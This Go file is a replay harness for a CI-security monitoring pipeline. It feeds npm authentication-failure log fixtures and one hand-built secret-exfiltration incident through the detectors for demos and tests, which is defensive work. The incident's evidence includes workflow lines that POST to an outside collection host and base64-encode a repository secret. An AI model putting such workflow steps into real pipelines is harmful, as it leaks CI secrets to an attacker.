// Copyright 2024 The Authors (see AUTHORS file)
//
// Licensed under the Apache License, Version 2.0 (the "License");
// you may not use this file except in compliance with the License.
// You may obtain a copy of the License at
//
//      http://www.apache.org/licenses/LICENSE-2.0
//
// Unless required by applicable law or agreed to in writing, software
// distributed under the License is distributed on an "AS IS" BASIS,
// WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
// See the License for the specific language governing permissions and
// limitations under the License.

// Package replay drives a canned batch of run-log and pre-built incident
// fixtures through the live pipeline, exercising every downstream
// consumer (correlator, store, broadcaster, summary/enrichment queues)
// without needing a real Forge connection. Intended for demos and
// integration smoke tests.
package replay

import (
	"context"
	"crypto/sha1" //nolint:gosec // stable fingerprint, not a security boundary
	"encoding/hex"
	"fmt"
	"time"

	"github.com/abcxyz/pkg/logging"
	"github.com/forgesentinel/sentinel/pkg/broadcaster"
	"github.com/forgesentinel/sentinel/pkg/forgetypes"
	"github.com/forgesentinel/sentinel/pkg/incidentfields"
	"github.com/forgesentinel/sentinel/pkg/pipeline"
	"github.com/forgesentinel/sentinel/pkg/runlogs"
)

// IncidentStore is the subset of *store.Store the replay harness needs.
type IncidentStore interface {
	InsertIncident(ctx context.Context, inc *forgetypes.Incident) (bool, error)
}

// EnrichmentEnqueuer mirrors pipeline.EnrichmentEnqueuer.
type EnrichmentEnqueuer interface {
	MaybeEnqueue(ctx context.Context, inc *forgetypes.Incident) error
}

// Queue is the subset of queue.Queue the harness needs.
type Queue interface {
	Enqueue(ctx context.Context, incidentID string) error
}

// Run drives the canned fixtures through pl (for the signal-match
// fixtures) and directly through store/broadcaster/summaryQ/enrichment
// (for the hand-built personalized-exfiltration example), matching
// run_replay_fixtures. It returns the number of incidents emitted.
func Run(ctx context.Context, pl *pipeline.Pipeline, store IncidentStore, b *broadcaster.Broadcaster, summaryQ Queue, enrichment EnrichmentEnqueuer) (int, error) {
	logger := logging.FromContext(ctx)
	emitted := 0

	for _, fx := range fixtures() {
		n, err := pl.ProcessRunLogs(ctx, fx.runCtx, fx.logs, "replay")
		if err != nil {
			logger.WarnContext(ctx, "replay: fixture failed", "repo_full_name", fx.runCtx.RepoFullName, "error", err)
			continue
		}
		emitted += n
	}

	n, err := emitPersonalizedExfiltrationExample(ctx, store, b, summaryQ, enrichment)
	if err != nil {
		logger.WarnContext(ctx, "replay: personalized exfiltration example failed", "error", err)
	} else {
		emitted += n
	}

	logger.InfoContext(ctx, "replay: fixtures complete", "emitted", emitted)
	return emitted, nil
}

type fixture struct {
	runCtx forgetypes.RunContext
	logs   []runlogs.JobLog
}

// fixtures returns the five canned npm-auth-failure runs used to
// demonstrate the correlator crossing its min-repos/min-owners
// thresholds, matching replay/fixtures.py:_fixtures.
func fixtures() []fixture {
	logs := []runlogs.JobLog{
		{
			JobName: "build",
			LogText: "npm ERR! code E401\n" +
				"npm ERR! Unable to authenticate, your authentication token seems to be invalid.\n" +
				"npm ERR! To correct this please try logging in again with:\n" +
				"npm ERR!     npm login\n" +
				"npm ERR! A complete log of this run can be found in:\n" +
				"npm ERR!     /home/runner/.npm/_logs/2025-09-08T13_42_11_123Z-debug.log\n" +
				"Error: Process completed with exit code 1.\n",
		},
		{
			JobName: "publish",
			LogText: "npm ERR! code EAUTH\n" +
				"npm ERR! Invalid authentication token.\n" +
				"npm ERR! Please run `npm login` again to reauthenticate.\n" +
				"npm ERR! This is likely caused by an expired or revoked npm token.\n" +
				"npm ERR! A complete log of this run can be found in:\n" +
				"npm ERR!     /home/runner/.npm/_logs/2025-09-08T14_03_51_991Z-debug.log\n",
		},
		{
			JobName: "install",
			LogText: "> npm install\n\n" +
				"npm ERR! code E401\n" +
				"npm ERR! Unable to authenticate, need: Basic realm=\"GitHub Package Registry\"\n" +
				"npm ERR! authentication required for https://registry.npmjs.org/\n" +
				"npm ERR! A complete log of this run can be found in:\n" +
				"npm ERR!     /home/runner/.npm/_logs/2025-09-08T15_11_09_552Z-debug.log\n" +
				"Error: npm install failed\n",
		},
		{
			JobName: "whoami",
			LogText: "npm ERR! code E401\n" +
				"npm ERR! Unable to authenticate, your authentication token seems to be invalid.\n" +
				"npm ERR! npm whoami\n" +
				"npm ERR!     at /opt/hostedtoolcache/node/20.x/x64/lib/node_modules/npm/lib/commands/whoami.js\n" +
				"Error: Process completed with exit code 1.\n",
		},
	}

	now := time.Now().UTC()
	repos := []struct {
		repoFullName string
		owner        string
		runID        int64
	}{
		{"org-a/repo-one", "org-a", 1001},
		{"org-b/repo-two", "org-b", 1002},
		{"org-c/repo-three", "org-c", 1003},
		{"org-a/repo-four", "org-a", 1004},
		{"org-b/repo-five", "org-b", 1005},
	}

	out := make([]fixture, 0, len(repos))
	for i, r := range repos {
		out = append(out, fixture{
			runCtx: forgetypes.RunContext{
				RepoFullName: r.repoFullName,
				Owner:        r.owner,
				RunID:        r.runID,
				HTMLURL:      fmt.Sprintf("https://example.com/runs/%d", r.runID),
				WorkflowName: "CI",
				Conclusion:   "failure",
				UpdatedAt:    now.Add(time.Duration(i+1) * time.Second).Format(time.RFC3339),
			},
			logs: logs,
		})
	}
	return out
}

// emitPersonalizedExfiltrationExample inserts a hand-built
// personalized_secret_exfiltration incident demonstrating the
// personalized-exfiltration detector's output shape, matching
// replay/fixtures.py:_emit_personalized_exfiltration_example.
func emitPersonalizedExfiltrationExample(ctx context.Context, store IncidentStore, b *broadcaster.Broadcaster, summaryQ Queue, enrichment EnrichmentEnqueuer) (int, error) {
	now := time.Now().UTC().Format(time.RFC3339)
	dedupeKey := "personalized_exfil:demo/repo:deadbeef:.github/workflows/ghostaction.yml"
	digest := sha1.Sum([]byte(dedupeKey)) //nolint:gosec
	incidentID := hex.EncodeToString(digest[:])

	evidence := forgetypes.JSONMap{
		"repo_full_name": "demo/repo",
		"sha":            "deadbeef",
		"actor":          "demo-user",
		"workflow_path":  ".github/workflows/ghostaction.yml",
		"overlap_secrets": []string{"a1b2c3d4e5"},
		"overlap_count":   1,
		"exfil_domain":    "bold-dhawan.45-139-104-115.plesk.page",
		"confidence":      "high",
		"evidence_lines": []string{
			"name: Github Actions Security",
			"run: curl -X POST https://bold-dhawan.45-139-104-115.plesk.page/collect",
			"run: echo ${{ secrets.REDACTED }} | base64",
		},
		"source": "replay",
	}

	tags := forgetypes.TagSet{
		"security",
		"workflow_injection",
		"secret_enumeration",
		"confidence:high",
		"overlap:1",
	}

	inc := &forgetypes.Incident{
		IncidentID:   incidentID,
		Kind:         forgetypes.KindPersonalizedSecretExfiltration,
		RunID:        -(0xdeadbeef % (1 << 31)),
		DedupeKey:    &dedupeKey,
		RepoFullName: "demo/repo",
		WorkflowName: ".github/workflows/ghostaction.yml",
		Status:       "detected",
		Conclusion:   "high",
		HTMLURL:      "https://github.com/demo/repo/commit/deadbeef",
		CreatedAt:    now,
		UpdatedAt:    now,
		Title:        "Personalized secret exfiltration risk in demo/repo",
		Tags:         tags,
		Evidence:     evidence,
	}
	incidentfields.Apply(inc)

	inserted, err := store.InsertIncident(ctx, inc)
	if err != nil {
		return 0, fmt.Errorf("insert replay incident: %w", err)
	}
	if !inserted {
		return 0, nil
	}

	if err := summaryQ.Enqueue(ctx, inc.IncidentID); err != nil {
		return 0, fmt.Errorf("enqueue summary job: %w", err)
	}
	if err := enrichment.MaybeEnqueue(ctx, inc); err != nil {
		return 0, fmt.Errorf("enqueue enrichment: %w", err)
	}

	b.Publish(forgetypes.CardFromIncident(inc))
	return 1, nil
}
